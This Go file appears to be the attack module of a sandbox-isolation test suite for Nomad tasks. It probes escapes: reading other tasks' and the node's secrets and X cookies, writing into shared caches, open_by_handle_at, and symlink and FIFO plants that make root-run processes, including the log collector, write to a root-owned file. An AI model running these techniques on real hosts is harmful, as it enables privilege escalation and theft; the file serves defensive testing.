package attack

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

func runDirs(_ ctx, a *attacker) Result {
	for _, path := range a.RunDirs {
		a.readTree(path)
	}
	return a.result()
}

func taskDirs(_ ctx, a *attacker) Result {
	for _, path := range a.TaskDirs {
		a.readTree(path)
	}
	return a.result()
}

func temporaryFiles(_ ctx, a *attacker) Result {
	for _, path := range a.Temporary {
		a.readTree(path)
	}
	return a.result()
}

// nodeFiles reads what is the node's own: its accounts, configuration and keys.
func nodeFiles(_ ctx, a *attacker) Result {
	for _, path := range a.NodeFiles {
		a.readTree(path)
	}
	return a.result()
}

// readTree reads a file, or the files below a directory.
func (a *attacker) readTree(path string) {
	info, err := os.Stat(path)
	if err != nil {
		a.refuse(path, err)
		return
	}
	if !info.IsDir() {
		a.readSecret(path, os.O_RDONLY)
		return
	}
	names, err := os.ReadDir(path)
	if err != nil {
		a.refuse(path, err)
		return
	}
	if len(names) == 0 {
		a.refuse(path, errors.New("an empty directory"))
		return
	}
	read := 0
	_ = filepath.WalkDir(path, func(file string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || read >= 500 {
			return nil
		}
		read++
		if text, err := os.ReadFile(file); err == nil && a.secret(string(text)) != "" {
			a.succeed("read %s in %s", a.secret(string(text)), file)
		}
		return nil
	})
	switch {
	case len(names) == 1 && onTheWay(filepath.Join(path, names[0].Name())):
		a.refuse("list "+path, errors.New("it has only what leads to the own task directory"))
	case len(a.got) == 0:
		a.succeed("listed %d names in %s", len(names), path)
	}
}

// authorities reads the cookies of other displays.
func authorities(_ ctx, a *attacker) Result {
	found, _ := filepath.Glob("/tmp/.nearcast-*/x/*")
	for _, path := range append(a.Authorities, found...) {
		if path == os.Getenv("XAUTHORITY") {
			continue
		}
		text, err := os.ReadFile(path)
		switch {
		case err != nil:
			a.refuse(path, err)
		case strings.Contains(string(text), cookieName):
			a.succeed("read a cookie in %s", path)
		}
	}
	return a.result()
}

// cacheDir reads the content of others, and writes into it.
func cacheDir(_ ctx, a *attacker) Result {
	for _, path := range a.Cache {
		info, err := os.Stat(path)
		if err != nil {
			a.refuse(path, err)
			continue
		}
		if !info.IsDir() {
			a.readSecret(path, os.O_RDONLY)
			continue
		}
		if names, err := os.ReadDir(path); err != nil {
			a.refuse("list "+path, err)
		} else if len(names) == 1 && onTheWay(filepath.Join(path, names[0].Name())) {
			a.refuse("list "+path, errors.New("it has only what leads to the own task directory"))
		} else if len(names) > 0 {
			a.succeed("listed %d names in %s", len(names), path)
		} else {
			a.refuse("list "+path, errors.New("an empty directory"))
		}
		made := filepath.Join(path, a.Tag)
		if f, err := os.OpenFile(made, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o600); err != nil {
			a.refuse("write to "+path, err)
		} else {
			_ = f.Close()
			_ = os.Remove(made)
			a.succeed("wrote to %s", path)
		}
	}
	return a.result()
}

// contentWrite changes this seat's own content, which the node's cache may share with
// seats to come.
func contentWrite(_ ctx, a *attacker) Result {
	var planted []string
	for _, path := range a.Content {
		for what, change := range map[string]func() error{
			"chmod": func() error { return os.Chmod(path, 0o777) },
			"append": func() error {
				f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
				if err != nil {
					return err
				}
				_, err = f.WriteString(a.Tag)
				return errors.Join(err, f.Close())
			},
			"truncate": func() error { return os.Truncate(path, 3) },
			"set attribute": func() error {
				return unix.Setxattr(path, "user.attack", []byte(a.Tag), 0)
			},
			"lock": func() error {
				f, err := os.Open(path)
				if err != nil {
					return err
				}
				defer f.Close()
				// A lease makes a process that opens the file for writing wait for us.
				_, err = unix.FcntlInt(f.Fd(), unix.F_SETLEASE, unix.F_RDLCK)
				return err
			},
		} {
			if err := change(); err != nil {
				a.refuse(what+" "+path, err)
			} else {
				planted = append(planted, what+" "+path)
			}
		}
	}
	if len(planted) > 0 {
		return Result{Outcome: Planted, Detail: short(planted)}
	}
	return a.result()
}

// openByHandle opens files by number, past every directory that hides them.
func openByHandle(_ ctx, a *attacker) Result {
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		a.refuse("name_to_handle_at", err)
		return a.result()
	}
	dir, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		a.refuse("open /", err)
		return a.result()
	}
	defer unix.Close(dir)
	fd, err := unix.OpenByHandleAt(dir, handle, unix.O_RDONLY)
	if err == nil {
		unix.Close(fd)
	}
	a.try("open_by_handle_at", err)
	return a.result()
}

// allocDir is the directory that the tasks of an allocation share.
func allocDir() string { return os.Getenv("NOMAD_ALLOC_DIR") }

// plantSymlinks puts links to a file of root, and FIFOs, where a process with more
// rights may write or read later: content, home, and all names that Nomad knows.
func plantSymlinks(_ ctx, a *attacker) Result {
	if a.Victim == "" {
		a.lack("no file of root was given")
		return a.result()
	}
	var planted []string
	plant := func(what string, err error) {
		if err != nil {
			a.refuse(what, err)
		} else {
			planted = append(planted, what)
		}
	}
	dir, err := os.Getwd()
	if err != nil {
		a.refuse("find the task directory", err)
		return a.result()
	}
	for _, path := range a.Content {
		// The directory may be the app's although the file is not.
		err := os.Rename(path, path+".was")
		if err == nil {
			err = os.Symlink(a.Victim, path)
		}
		plant("link at "+path, err)
	}
	for _, place := range []string{filepath.Join(dir, "local"), filepath.Join(dir, "tmp"), home(), os.Getenv("XDG_RUNTIME_DIR")} {
		if place == "" {
			continue
		}
		err := os.Rename(place, place+".was")
		if err == nil {
			err = os.Symlink(filepath.Dir(a.Victim), place)
		}
		plant("directory replaced by a link: "+place, err)
	}
	for _, name := range []string{"exit.json", "spec.json", ".nearcast", ".nearcast-link", "core"} {
		plant("link "+name, os.Symlink(a.Victim, filepath.Join(dir, name)))
	}
	plant("FIFO", unix.Mkfifo(filepath.Join(dir, "content.fifo"), 0o666))
	plant("deep directory", makeDeep(dir, 60))
	if len(planted) == 0 {
		return a.result()
	}
	return Result{Outcome: Planted, Detail: short(planted)}
}

// makeDeep makes a directory whose path is longer than the kernel takes at once.
func makeDeep(dir string, levels int) error {
	fd, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY, 0)
	for i := 0; i < levels && err == nil; i++ {
		name := fmt.Sprintf("%0100d", i)
		if err = unix.Mkdirat(fd, name, 0o700); err != nil {
			break
		}
		var next int
		next, err = unix.Openat(fd, name, unix.O_PATH|unix.O_DIRECTORY, 0)
		unix.Close(fd)
		fd = next
	}
	if fd >= 0 {
		unix.Close(fd)
	}
	return err
}

// plantLogSymlink makes Nomad's log collector, which is root, write to a file of root:
// it replaces the log files to come by links, and prints until the next file is begun.
func plantLogSymlink(c ctx, a *attacker) Result {
	if a.Victim == "" || allocDir() == "" {
		a.lack("no file of root, or no log directory, was given")
		return a.result()
	}
	var planted []string
	logs := filepath.Join(allocDir(), "logs")
	task := os.Getenv("NOMAD_TASK_NAME")
	for i := 1; i < 4; i++ {
		path := filepath.Join(logs, fmt.Sprintf("%s.stdout.%d", task, i))
		if err := os.Symlink(a.Victim, path); err != nil {
			a.refuse(path, err)
		} else {
			planted = append(planted, path)
		}
	}
	if len(planted) == 0 {
		return a.result()
	}
	// More than one file of one megabyte, as in the job of the test.
	line := []byte(strings.Repeat("x", 1000) + " " + a.Tag + "\n")
	for range 1300 {
		if c.Err() != nil {
			break
		}
		if _, err := os.Stdout.Write(line); err != nil {
			break
		}
	}
	return Result{Outcome: Planted, Detail: short(planted)}
}

// onTheWay reports whether the own task directory is below path.
func onTheWay(path string) bool {
	return strings.HasPrefix(os.Getenv("NOMAD_TASK_DIR")+"/", path+"/")
}
